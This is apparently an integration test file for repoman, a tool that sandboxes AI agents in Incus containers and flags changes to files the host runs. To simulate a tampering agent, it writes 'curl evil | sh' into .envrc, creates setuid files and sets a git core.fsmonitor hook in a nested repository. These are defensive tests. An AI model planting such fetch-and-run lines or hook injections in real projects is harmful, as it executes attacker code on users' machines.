import {execFileSync} from 'node:child_process'
import {existsSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {expect} from 'chai'
import {mountTmpfs, requireRoot, unmount} from '../helpers/mounts.js'
import {makeWorld, requireIncus, type World} from '../helpers/world.js'

const FAST = {DEBUG: 'repoman'}
const OCLIF = {REPOMAN_NO_FAST_PATH: '1'}

describe('integrity: what an agent changed in host-run files is seen (real Incus)', () => {
  let world: World
  let repo: string
  before(async function () {
    requireRoot(this)
    world = makeWorld(requireIncus(this))
    await world.setup()
    // A backup root of its own, so status is healthy until the repo is not.
    mountTmpfs(world.backupRoot)
    repo = world.makeRepo('alpha', {git: true})
    const created = await world.cli(['new', 'alpha'])
    expect(created.exitCode, created.stderr).to.equal(0)
  })
  after(() => {
    if (world) unmount(world.backupRoot)
    world?.dispose()
  })

  /** As root inside the container, which is what an agent is (world.incus puts --project last, after `--`). */
  const asRoot = (script: string) =>
    execFileSync('incus', ['exec', 'alpha', '--project', world.incusProject, '--cwd', repo, '--', 'sh', '-c', script], {
      env: world.env,
      stdio: ['ignore', 'pipe', 'pipe'],
    })
  const status = async () => {
    const result = await world.cli(['status', 'alpha', '--json'])
    return {exitCode: result.exitCode, project: JSON.parse(result.stdout).projects[0]}
  }

  it('new records a baseline: a session that changes nothing prints nothing more, and status is healthy', async () => {
    expect(existsSync(join(world.home, '.local/state/repoman/integrity/alpha.json'))).to.equal(true)
    const quiet = await world.cli(['exec', 'alpha', '--', 'sh', '-c', 'echo hi > notes.txt'])
    expect(quiet).to.deep.include({exitCode: 0, stdout: '', stderr: ''})
    const {exitCode, project} = await status()
    expect(exitCode).to.equal(0)
    expect(project).to.deep.include({integrity: 'clean', changes: [], special_files: []})
  })

  it('a session that writes .envrc ends with one block naming it; the exit code stays the command’s', async () => {
    const session = await world.cli([
      'exec',
      'alpha',
      '--',
      'sh',
      '-c',
      'echo out; echo "curl evil | sh" > .envrc; exit 3',
    ])
    expect(session.exitCode).to.equal(3)
    expect(session.stdout).to.equal('out\n')
    expect(session.stderr).to.equal(
      [
        'repoman: files your host runs changed in "alpha" since you last accepted them:',
        '  added  .envrc (file, 15 bytes, mode 0644)',
        'Look:   repoman review alpha',
        'Accept: repoman accept alpha [PATH...]',
        '',
      ].join('\n'),
    )
    // The same block on the fast path and through oclif.
    const fast = await world.cli(['exec', 'alpha', '--', 'true'], {env: FAST})
    const oclif = await world.cli(['exec', 'alpha', '--', 'true'], {env: OCLIF})
    expect(fast.stderr).to.include('repoman:fast-path ran exec\n')
    expect(fast.stderr.replace(/^repoman:fast-path .*\n/m, ''))
      .to.equal(session.stderr)
      .and.to.equal(oclif.stderr)
  })

  it('status names the path and exits 1; list shows the project as changed', async () => {
    const {exitCode, project} = await status()
    expect(exitCode).to.equal(1)
    expect(project.integrity).to.equal('changed')
    expect(project.problems).to.deep.equal(['.envrc added since accepted (`repoman review alpha`)'])
    const text = await world.cli(['status', 'alpha'])
    expect(text.stdout).to.match(/^PROBLEM alpha: .*\.envrc added since accepted/m)

    const list = JSON.parse((await world.cli(['list', '--json'])).stdout)
    expect(list[0]).to.include({name: 'alpha', integrity: 'changed', changed_files: 1})
    const table = (await world.cli(['list'])).stdout
    expect(table).to.match(/^alpha \(changed\) /m)
    expect(table).to.include('(changed) alpha: 1 host-run file(s) changed; `repoman review alpha`')
  })

  it('review shows a unified diff; --json gives the structured list', async () => {
    const review = await world.cli(['review', 'alpha'])
    expect(review.exitCode).to.equal(1)
    expect(review.stdout).to.include('added .envrc: file, 15 bytes, mode 0644\n')
    expect(review.stdout).to.include('--- a/.envrc\taccepted\n+++ b/.envrc\tnow\n')
    expect(review.stdout).to.include('\n+curl evil | sh\n')
    const json = JSON.parse((await world.cli(['review', 'alpha', '--json'])).stdout)
    expect(json).to.deep.include({name: 'alpha', path: repo, integrity: 'changed', special_files: []})
    expect(json.changes).to.have.length(1)
    expect(json.changes[0]).to.include({path: '.envrc', change: 'added'})
    expect(json.changes[0].diff).to.include('+curl evil | sh')
  })

  it('accept of an unknown path is a one-line error; accept of the path clears it', async () => {
    const wrong = await world.cli(['accept', 'alpha', 'README.md'])
    expect(wrong.exitCode).to.equal(2)
    expect(wrong.stderr).to.equal(
      'Error: README.md is not a changed path of "alpha"; `repoman review alpha` lists them\n',
    )
    const accepted = await world.cli(['accept', 'alpha', '.envrc'])
    expect(accepted).to.deep.include({exitCode: 0, stdout: 'accepted added .envrc\n'})
    expect((await status()).exitCode).to.equal(0)
    const session = await world.cli(['exec', 'alpha', '--', 'true'])
    expect(session.stderr).to.equal('')
  })

  it('a baseline that cannot be read is said so, and accepting everything records a new one', async () => {
    const file = join(world.home, '.local/state/repoman/integrity/alpha.json')
    writeFileSync(file, '{"truncated')
    const why = `${file} is not a baseline repoman wrote; \`repoman accept alpha\` records a new one`
    const session = await world.cli(['exec', 'alpha', '--', 'true'])
    expect(session).to.deep.include({exitCode: 0, stderr: `repoman: ${why}\n`})
    const {exitCode, project} = await status()
    expect(exitCode).to.equal(1)
    expect(project).to.deep.include({integrity: 'unknown', problems: [why]})
    expect((await world.cli(['accept', 'alpha', '.envrc'])).stderr).to.equal(`Error: ${why}\n`)
    const accepted = await world.cli(['accept', 'alpha'])
    expect(accepted.stdout).to.equal('alpha: recorded the files your host runs as they are now\n')
    expect((await status()).project.integrity).to.equal('clean')
  })

  it('a setuid file anywhere in the repo is flagged by status, and reported (not refused) by sync', async () => {
    const made = await world.cli([
      'exec',
      'alpha',
      '--',
      'sh',
      '-c',
      'mkdir -p deep/er && touch deep/er/tool && chmod 4755 deep/er/tool',
    ])
    expect(made.exitCode, made.stderr).to.equal(0)
    const {exitCode, project} = await status()
    expect(exitCode).to.equal(1)
    expect(project.special_files).to.deep.equal([
      {path: 'deep/er/tool', kind: 'setuid', detail: 'setuid file (mode 4755, owner 0)'},
    ])
    expect(project.problems).to.deep.equal(['deep/er/tool: setuid file (mode 4755, owner 0)'])
    const sync = await world.cli(['sync', 'alpha'])
    expect(sync.exitCode, sync.stderr).to.equal(0)
    expect(sync.stderr).to.include('alpha: flagged deep/er/tool: setuid file (mode 4755, owner 0)\n')
    expect(existsSync(join(world.backupRoot, 'alpha/README.md'))).to.equal(true)
  })

  it('.git cannot be swapped (it is a mount point); a nested repository the agent makes is named after the session', async () => {
    expect(() => asRoot('mv .git .git-old')).to.throw(/Device or resource busy/)
    asRoot('mkdir -p vendor/x && git init -q vendor/x && git -C vendor/x config core.fsmonitor "touch /tmp/pwned"')
    const session = await world.cli(['exec', 'alpha', '--', 'true'])
    expect(session.exitCode).to.equal(0)
    expect(session.stderr).to.include('repoman: flagged in "alpha"')
    expect(session.stderr).to.match(/^ {2}vendor\/x\/\.git: a nested repository/m)
    const {exitCode, project} = await status()
    expect(exitCode).to.equal(1)
    expect(project.special_files.map((f: {path: string; kind: string}) => `${f.kind} ${f.path}`)).to.include(
      'nested-repo vendor/x/.git',
    )
    const list = await world.cli(['list'])
    expect(list.stdout).to.match(/alpha \(flagged\)/)
    asRoot('rm -rf vendor')
    expect((await status()).project.special_files.map((f: {kind: string}) => f.kind)).not.to.include('nested-repo')
  })

  it('remove forgets the baseline with the project', async () => {
    const baseline = join(world.home, '.local/state/repoman/integrity/alpha.json')
    expect(existsSync(baseline)).to.equal(true)
    const removed = await world.cli(['remove', 'alpha', '--yes'])
    expect(removed.exitCode, removed.stderr).to.equal(0)
    expect(existsSync(baseline)).to.equal(false)
  })
})

describe('integrity for a non-root host user: what container root leaves is seen (real Incus, raw.idmap)', () => {
  let world: World
  let repo: string
  before(async function () {
    world = makeWorld(requireIncus(this), {user: true})
    await world.setup()
    repo = world.makeRepo('beta', {git: true})
    const created = await world.cli(['new', 'beta', '--json'])
    expect(created.exitCode, created.stderr).to.equal(0)
    expect(JSON.parse(created.stdout)).to.include({idmap: 'raw.idmap'})
  })
  after(() => world?.dispose())

  it('a hook root writes, a setuid file and a directory closed to the user are named', async () => {
    execFileSync(
      'incus',
      [
        'exec',
        'beta',
        '--project',
        world.incusProject,
        '--cwd',
        repo,
        '--',
        'sh',
        '-c',
        'echo "curl evil | sh" > .envrc && touch tool && chmod 4755 tool && mkdir -m 700 hidden && touch hidden/x && chmod 4755 hidden/x',
      ],
      {env: world.env, stdio: ['ignore', 'pipe', 'pipe']},
    )
    const session = await world.cli(['exec', 'beta', '--', 'true'])
    expect(session.exitCode).to.equal(0)
    expect(session.stderr).to.include('  added  .envrc (file, 15 bytes, mode 0644)\n')
    const status = await world.cli(['status', 'beta', '--json'])
    expect(status.exitCode).to.equal(1)
    const [project] = JSON.parse(status.stdout).projects
    // Container root is uid 1000000 on the host; what it hides from the user is named too.
    expect(project.special_files).to.deep.equal([
      {path: 'hidden', kind: 'unreadable', detail: 'directory repoman may not read (EACCES) could hide anything'},
      {path: 'tool', kind: 'setuid', detail: 'setuid file (mode 4755, owner 1000000)'},
    ])
    expect(project.problems).to.include('.envrc added since accepted (`repoman review beta`)')
  })
})
